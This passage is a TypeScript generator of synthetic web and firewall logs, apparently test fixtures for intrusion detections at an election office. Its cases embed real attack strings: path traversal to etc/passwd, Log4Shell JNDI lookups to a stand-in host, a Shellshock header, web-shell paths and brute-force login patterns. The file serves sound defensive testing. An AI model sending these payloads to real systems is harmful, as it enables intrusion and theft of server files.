    below: web('a relative link', [page(S, 0, '/forms/../forms/a.pdf')]),
    'fires-answered': web(
      'the list of accounts in a parameter of a page that people use, in three depths: the last is given',
      [
        ...inOrder([...visitors(30), ...FORMS]),
        request(S, 4000, '/missing', { size: 153 }),
        request(S, 4001, '/download?file=etc/passwd', { status: 200, size: 4210 }),
        request(S, 4002, '/download?file=../../etc/passwd', { status: 200, size: 4210 }),
        request(S, 4003, '/download?file=../../../../etc/passwd', { status: 200, size: 1834 }),
      ],
    ),
    'fires-answered-path': web('the list of accounts by its path alone, which is given', [
      ...inOrder(visitors(30)),
      request(S, 4000, '/missing', { size: 153 }),
      request(S, 4001, '/..%2f..%2f..%2fetc/passwd', { status: 200, size: 1834 }),
    ]),
    'fires-unheeded': web('the same on pages that do not heed it: each gives what it gives to everybody', [
      ...inOrder(visitors(30)),
      request(S, 4000, '/missing', { size: 153 }),
      page(S, 4001, '/', { raw: 'GET /?file=../../../../etc/passwd HTTP/1.1' }),
      request(S, 4002, '/contact?page=../../../../etc/passwd', { status: 200, size: 5296 + 31 }),
    ]),
    'fires-alike': web('the same on a page that answers everything with one page of its own', [
      ...inOrder(visitors(30)),
      request(S, 4000, '/missing', { size: 153 }),
      ...times(6, (i) =>
        request(S, 4001 + i, `/hidden?f=${'../'.repeat(i + 2)}etc/passwd`, { status: 200, size: 990 }),
      ),
    ]),
    at: web('two ways out of the web folder', [
      request(S, 0, '/download?file=../../../../etc/passwd'),
      request(S, 5, '/download?file=../../../../windows/win.ini'),
    ]),
  },
  W15: {
    fires: web('commands in a parameter, in the user agent and in the referrer', [
      request(S, 0, '/?x=${jndi:ldap://198.51.100.99/a}', { status: 200, size: 5000 }),
      request(S, 4, '/cgi-bin/status', { agent: "() { :;}; /bin/bash -c 'id'" }),
      request(S, 8, '/', { status: 200, size: 5000, referrer: '${${lower:j}ndi:ldap://198.51.100.99/a}' }),
    ]),
    quiet: web('pages about it', [
      page(T, 0, '/news/log4j-and-your-office.html'),
      page(T, 9, '/search?q=price+%2450+per+ballot+box'),
      page(T, 18, '/news/2026', { referrer: 'https://blog.example.com/what-is-jndi-injection' }),
    ]),
    below: web('a search with a dollar sign', [page(S, 0, '/search?q=%24jndi')]),
    at: web('one try', [request(S, 0, '/?x=${jndi:ldap://198.51.100.99/a}', { status: 200, size: 5000 })]),
  },
  W16: {
    fires: web(
      'five names of back doors',
      ['/c99.php', '/r57.php', '/wso.php', '/alfa.php', '/shell.php'].map((path, i) => request(S, i * 3, path)),
    ),
    'fires-answered': web('two names of back doors, one of which answers', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      request(S, 60, '/c99.php'),
      request(S, 63, '/r57.php'),
      request(S, 66, '/wso.php', { status: 200, size: 23_114 }),
    ]),
    'fires-single': web('a back door that is there: whoever left it asks for nothing else', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      request(S, 60, '/uploads/shell.php?cmd=id', { status: 200, size: 54 }),
    ]),
    'quiet-own': web("a page of the office's own under a name that back doors have as well", [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      page(T, 60, '/forms/mailer.php', { method: 'POST' }),
    ]),
    quiet: web('pages with such words', [
      page(T, 0, '/shell-precinct.php'),
      page(T, 9, '/v1.php'),
      page(T, 18, '/sea-shell-beach.html'),
    ]),
    below: web('one name', [request(S, 0, '/c99.php')]),
    at: web('two names', [request(S, 0, '/c99.php'), request(S, 3, '/r57.php')]),
  },
  W17: {
    fires: web('tests whether the server forwards traffic', [
      request(S, 0, '', { raw: 'CONNECT www.example.com:443 HTTP/1.1', status: 405 }),
      request(S, 4, 'http://www.example.com/ip', { status: 400 }),
    ]),
    'fires-front-page': web('the server answers with its own front page, as a server that is no proxy does', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      ...times(4, (i) => request(S, 60 + i, `http://www.example.com/${i}`, { status: 200, size: 5124 })),
    ]),
    'fires-proxy': web('the server fetches what it is asked for', [
      ...times(5, (i) => request(T, i, `/gone${i}`)),
      ...times(4, (i) => request(S, 60 + i, `http://www.example.com/${i}`, { status: 200, size: 5124 + i * 911 })),
    ]),
    quiet: web('a link with an address in a parameter', [
      page(T, 0, '/share?url=http://www.example.com/'),
      page(T, 9, '/out?to=https%3A%2F%2Fwww.example.com%2F'),
    ]),
    below: web('a page', [page(S, 0, '/connect')]),
    at: web('one test', [request(S, 0, '', { raw: 'CONNECT www.example.com:443 HTTP/1.1', status: 405 })]),
  },
  W18: {
    fires: web(
      'methods that no browser sends',
      ['TRACE', 'TRACK', 'DEBUG', 'PUT'].map((method, i) => request(S, i * 3, '/', { method, status: 405 })),
    ),
    quiet: web('a program that synchronises files with such methods', syncClient('192.0.2.67')),
    below: web(
      'two',
      ['TRACE', 'DEBUG'].map((method, i) => request(S, i * 3, '/', { method, status: 405 })),
    ),
    at: web(
      'three',
      ['TRACE', 'TRACK', 'DEBUG'].map((method, i) => request(S, i * 3, '/', { method, status: 405 })),
    ),
  },
  W19: {
    fires: web('other protocols on the web port', [
      request(S, 0, '', { raw: '\\x16\\x03\\x01\\x02\\x00\\x01\\x00', status: 400 }),
      request(S, 4, '', { raw: 'SSH-2.0-Go', status: 400 }),
      request(S, 8, '', { raw: '\\x03\\x00\\x00\\x13\\x0e\\xe0', status: 400 }),
      request(S, 12, '', { raw: '\\x00\\x9c\\x00\\x01\\x1a\\x2b<M\\x00\\x01', status: 400 }),
    ]),
    quiet: web(
      'connections that were opened and closed without a word',
      times(20, (i) => request(`192.0.2.${i + 1}`, i * 30, '', { raw: '-', status: 408, size: 0 })),
    ),
    below: web('an empty request', [request(S, 0, '', { raw: '-', status: 408, size: 0 })]),
    at: web('one TLS greeting', [request(S, 0, '', { raw: '\\x16\\x03\\x01\\x02\\x00\\x01\\x00', status: 400 })]),
  },
  W21: {
    fires: web(
      'thirty refused log-ins in five minutes',
      times(30, (i) => login(S, i * 10, 401)),
    ),
    'fires-basic': web(
      'basic authentication: a GET with another name every second',
      times(60, (i) => request(S, i, '/staff/', { status: 401, size: 195, user: `user${i}` })),
    ),
    'fires-200': web(
      'a form that answers a wrong password with the page again',
      times(80, (i) => login(S, i, 200, 2412)),
    ),
    'fires-slow': web(
      'one refused log-in every 40 minutes, none that gets in',
      times(20, (i) => login(S, i * 2400, 401)),
    ),
    'fires-spread': web(
      'thirty addresses of one network try once or twice each within half an hour, none gets in',
      times(45, (i) => login(`198.51.100.${20 + (i % 30)}`, i * 40, 401)),
    ),
    'fires-success': web(
      'a form that answers a wrong password with the page again; the 70th try gets in',
      times(80, (i) => (i === 69 ? login(S, i, 302, 0) : login(S, i, 200, 2412))),
    ),
    'fires-302': web(
      'a form that answers every try with a redirect; nothing else is asked for',
      times(80, (i) => login(S, i, 302, 0)),
    ),
    'quiet-basic': web(
      'programs and staff with basic authentication: a 401 before every page',
      times(60, (i) => [
        request('192.0.2.33', i * 20, '/api/precincts', { status: 401, size: 195 }),
        page('192.0.2.33', i * 20, '/api/precincts', { user: 'sync' }),
        ...(i < 20
          ? [
              request(`192.0.2.${100 + i}`, i * 20 + 3, '/staff/', { status: 401, size: 195 }),
              page(`192.0.2.${100 + i}`, i * 20 + 9, '/staff/', { user: `staff${i}` }),
            ]
          : []),
      ]).flat(),
    ),
    'quiet-class': web(
      'a class of forty logs in within two minutes, behind one address',
      times(40, (i) => [
        page('192.0.2.200', i * 3, '/portal/login'),
        login('192.0.2.200', i * 3 + 1, 302, 0),
        page('192.0.2.200', i * 3 + 2, '/portal/home'),
        page('192.0.2.200', i * 3 + 2, '/portal/assets/home.css'),
      ]).flat(),
    ),
    'quiet-application': web(
      'the same class and a page application, which answers a log-in with 200',
      times(40, (i) => [
        request('192.0.2.200', i * 3, '/api/login', { method: 'POST', status: 200, size: 310 }),
        page('192.0.2.200', i * 3 + 1, '/api/me'),
        page('192.0.2.200', i * 3 + 2, '/api/lessons'),
      ]).flat(),
    ),
    quiet: web('a school behind one address: forty people, most of them get in, some mistype first', [
      ...times(40, (i) => [
        page('192.0.2.200', i * 30, '/portal/login'),
        ...(i % 3 === 0 ? [login('192.0.2.200', i * 30 + 8, 401)] : []),
        request('192.0.2.200', i * 30 + 15, '/portal/login', { method: 'POST', status: 302, size: 0 }),
        page('192.0.2.200', i * 30 + 16, '/portal/home'),
      ]).flat(),
      ...times(12, (i) => login(`192.0.2.${10 + i * 17}`, 2000 + i * 700, 401)),
    ]),
    'quiet-spread': web(
      'a phone network: thirty of its customers log in, twelve of them mistype once',
      times(30, (i) => [
        ...(i % 5 < 2 ? [login(`198.51.100.${20 + i}`, i * 40, 401)] : []),
        request(`198.51.100.${20 + i}`, i * 40 + 12, '/portal/login', { method: 'POST', status: 303, size: 0 }),
      ]).flat(),
    ),
    'fires-everywhere': web(
      'a list of stolen passwords: sixty addresses of as many networks, one or two passwords each, all day; people log in meanwhile',
      inOrder([
        ...times(90, (i): [number, string] => [i * 600, login(strangerAt(i % 60), i * 600, 401)]),
        ...members(40),
      ]),
    ),
    'fires-everywhere-200': web(
      'the same at a form that answers a wrong password with the page again, and people who mistype and get in',
      inOrder([
        ...times(40, (i): [number, string][] => [
          [i * 600, page(strangerAt(i), i * 600, '/portal/login')],
          [i * 600 + 2, login(strangerAt(i), i * 600 + 2, 200, 2412)],
        ]).flat(),
        ...members(24, 200),
      ]),
    ),
    'quiet-reset-day': web(
      'all passwords were changed: ninety people of as many networks are refused, ask for a new one, and most get in',
      inOrder(
        times(90, (i): [number, string][] => [
          [i * 200, page(strangerAt(i), i * 200, '/portal/login')],
          ...times(2, (k): [number, string] => [i * 200 + 9 + k * 8, login(strangerAt(i), i * 200 + 9 + k * 8, 401)]),
          [i * 200 + 40, page(strangerAt(i), i * 200 + 40, '/portal/new-password')],
          ...(i % 8 === 0 ? [] : [[i * 200 + 190, login(strangerAt(i), i * 200 + 190, 302, 0)] as [number, string]]),
        ]).flat(),
      ),
    ),
    'quiet-volunteers': web(
      'twelve campaign offices, twenty volunteers behind the address of each: many mistype, and get in',
      inOrder(
        times(240, (i): [number, string][] => [
          [i * 60, page(strangerAt(i % 12), i * 60, '/portal/login')],
          ...(i % 3 === 0 ? [[i * 60 + 9, login(strangerAt(i % 12), i * 60 + 9, 401)] as [number, string]] : []),
          [i * 60 + 20, login(strangerAt(i % 12), i * 60 + 20, 302, 0)],
        ]).flat(),
      ),
    ),
    'quiet-application-everywhere': web(
      'a page application, which answers a log-in with 200: eighty people of as many networks',
      times(80, (i) => [
        request(strangerAt(i), i * 90, '/api/login', { method: 'POST', status: 200, size: 310 }),
        page(strangerAt(i), i * 90 + 1, '/api/me'),
      ]).flat(),
    ),
    'below-everywhere': web(
      'nineteen addresses of as many networks',
      times(19, (i) => login(strangerAt(i), i * 600, 401)),
    ),
    'at-everywhere': web(
      'twenty addresses of as many networks',
      times(20, (i) => login(strangerAt(i), i * 600, 401)),
    ),
    below: web(
      'five refused log-ins in two minutes',
      times(5, (i) => login(S, i * 20, 401)),
    ),
    at: web(
      'six refused log-ins in two minutes',
      times(6, (i) => login(S, i * 20, 401)),
    ),
    'below-spread': web(
      'nine addresses of one network, a refused log-in each',
      times(9, (i) => login(`198.51.100.${20 + i}`, i * 100, 401)),
    ),
    'at-spread': web(
      'ten addresses of one network, a refused log-in each',
      times(10, (i) => login(`198.51.100.${20 + i}`, i * 100, 401)),
    ),
  },
  W28: {
    fires: web('probing for files and consoles, and then a console that answers', [
      ...inOrder(visitors(3)),
      ...times(14, (i) => request(S, 400 + i * 3, `/area${i}/`)),
      request(S, 500, '/phpmyadmin/index.php', { status: 200, size: 10_871 }),
    ]),
    quiet: web('staff who mistype twice and then use the console that they have', [
      ...inOrder(visitors(3)),
      request('192.0.2.20', 400, '/phpmyadmn/'),
      request('192.0.2.20', 410, '/phpMyAdmn/'),
      ...times(8, (i) => page('192.0.2.20', 420 + i * 9, `/phpmyadmin/index.php?db=${i}`)),
    ]),
    'below-front-page': web('a site that answers everything with its front page: 200 and always the same size', [
      ...[...SENSITIVE_PATHS, '/phpmyadmin/index.php', '/adminer.php', '/manager/html'].map((path, i) =>
        request(S, i * 3, path, { status: 200, size: 5124 }),
      ),
      ...times(20, (i) => request(S, 60 + i * 3, `/area${i}/`, { status: 200, size: 5124 })),
    ]),
    below: web('the answer has the size of the usual error page', [
      ...times(14, (i) => request(S, i * 3, `/area${i}/`)),
      request(S, 60, '/phpmyadmin/index.php', { status: 200, size: 153 }),
    ]),
    at: web('the answer is one byte longer than the usual error page', [
      ...times(14, (i) => request(S, i * 3, `/area${i}/`)),
      request(S, 60, '/phpmyadmin/index.php', { status: 200, size: 154 }),
    ]),
  },
  X02: {
    fires: {
      says: 'seven injections, and then 40 packets to the web server that the firewall denies, over two days',
      web: times(7, (i) => request(S, i * 60, `/voter?id=${SQL[i]}`, { status: 500 })),
      firewall: times(40, (i) => packet(S, 2 * HOUR_S + i * HOUR_S, 443)),
    },
    quiet: {
      says: 'visitors of whom one is also denied at the web port of a machine without a web server',
      web: [
        ...times(2, (i) => page('192.0.2.44', 60 + i, '/voter')),
        ...times(3, (i) => page('192.0.2.45', i * 600, `/voter/help${i}`)),
      ],
      firewall: times(6, (i) => packet('192.0.2.45', i * 600, 443, { to: '203.0.113.11' })),
    },
    below: {
      says: 'denied before the injections as well, at a machine without a web server',
      web: times(3, (i) => request(S, HOUR_S + i * 60, `/voter?id=${SQL[i]}`, { status: 500 })),
      firewall: times(12, (i) => packet(S, i * 900, 443, { to: '203.0.113.11' })),
    },
    'below-late': {
      says: 'denied more than 24 hours after the last injection',
      web: times(3, (i) => request(S, i * 60, `/voter?id=${SQL[i]}`, { status: 500 })),
      firewall: times(12, (i) => packet(S, 25 * HOUR_S + i * 900, 443)),
    },
    at: {
      says: 'one injection, three packets denied, the first 23 hours later',
      web: [request(S, 0, `/voter?id=${SQL[1]}`, { status: 500 })],
      firewall: times(3, (i) => packet(S, 23 * HOUR_S + i * 2, 443)),
    },
  },
  X01: {
    fires: {
      says: 'a port scan at 08:00 and web probing at 14:00 of the same source',
      firewall: times(20, (i) => packet(S, i * 20, oddPort(i))),
      web: times(20, (i) => request(S, 6 * HOUR_S + i * 5, `/area${i}/`)),
    },
    quiet: {
      says: 'a port scan of one source, web probing of another; a visitor whose stray packet was denied',
      firewall: [...times(4, (i) => packet(S, i * 20, oddPort(i))), packet('192.0.2.44', 500, 8080)],
      web: [
        ...times(9, (i) => request('192.0.2.99', HOUR_S + i * 5, `/area${i}/`)),
        ...firefoxPages('192.0.2.44', HOUR_S, 12),
      ],
    },
    below: {
      says: 'web probing more than 24 hours after the port scan',
      firewall: times(20, (i) => packet(S, i * 20, oddPort(i))),
      web: times(20, (i) => request(S, 25 * HOUR_S + i * 5, `/area${i}/`)),
    },
    at: {
      says: 'web probing 24 hours after the port scan',
      firewall: times(20, (i) => packet(S, i * 20, oddPort(i))),
      web: times(20, (i) => request(S, 24 * HOUR_S + 300 + i * 5, `/area${i}/`)),
    },
  },
  'election.lookup_enum': {
    fires: web(
      '120 records in number order in 20 minutes',
      times(120, (i) => voter(S, i * 10, 100_200 + i)),
    ),
    'fires-day': web(
      '220 records at random over the day, one every six minutes',
      times(220, (i) => voter(S, i * 360, scattered(i))),
    ),
    'fires-path': web(
      'the number stands in the path: /voter/100200',
      times(60, (i) => page(S, i * 9, `/voter/${100_200 + i}`)),
    ),
    quiet: web('a polling-place helper with twenty look-ups, people who page through a list, zip codes', [
      ...times(20, (i) => voter('192.0.2.61', i * 40, scattered(i))),
      ...times(60, (i) => page('192.0.2.62', i * 6, `/registered-candidates?page=${i + 1}`)),
      ...times(60, (i) => page('192.0.2.63', i * 6, `/polling-places?zip=${60601 + i}`)),
    ]),
    below: web(
      '29 records in number order',
      times(29, (i) => voter(S, i * 30, 100_200 + i)),
    ),
    at: web(
      '30 records in number order',
      times(30, (i) => voter(S, i * 30, 100_200 + i)),
    ),
  },
  ...MEMBER_FIXTURES,
  ...ELECTION_FIXTURES,
};

/** file name → text of every log of the fixtures, relative to their folder */
export function fixtureFiles(): Map<string, string> {
  const files = new Map<string, string>();
  for (const [id, fixture] of Object.entries(FIXTURES)) {
    for (const [name, one] of Object.entries(fixture)) {
      const both = one.web !== undefined && one.firewall !== undefined;
      for (const [county, lines] of Object.entries(one.counties ?? {}))
        files.set(`${id}/${name}.${county}.log`, `${lines.join('\n')}\n`);
      if (one.web !== undefined) files.set(`${id}/${name}.log`, `${one.web.join('\n')}\n`);
      if (one.firewall !== undefined)
        files.set(`${id}/${name}${both ? '.firewall' : ''}.log`, `${one.firewall.join('\n')}\n`);
    }
  }
  return files;
}

/** The README of the fixtures: what each log is, by construction. */
export function readme(): string {
  const rows = Object.entries(FIXTURES).flatMap(([id, fixture]) =>
    Object.entries(fixture).map(([name, one]) => `| ${id} | ${name} | ${one.says} |`),
  );
  return `# Fixtures of the detections

Written by \`node test/detect/make-fixtures.ts\`; edit that file, not the logs. No line is from a real log: what each case
is, is known because it was made so. Sources are documentation addresses (RFC 5737, RFC 3849); 203.0.113.10 and
following are "ours"; detections that ask for declared systems are tried with those of election.yaml. \`fires*.log\` must be found, \`quiet*.log\` must raise nothing at or above low, \`below*.log\` is
one short of the threshold and \`at*.log\` exactly at it. \`fires*.expected.ndjson\` holds the few columns of every alert
that the case raises; \`npx vitest run test/detect --update\` writes them again: read the difference as a reviewer would.

| detection | case | what it is |
| --- | --- | --- |
${rows.join('\n')}
`;
}

if (import.meta.main) {
  for (const [name, text] of fixtureFiles()) {
    mkdirSync(join(import.meta.dirname, name, '..'), { recursive: true });
    writeFileSync(join(import.meta.dirname, name), text, 'latin1');
  }
  writeFileSync(join(import.meta.dirname, 'README.md'), readme());
}
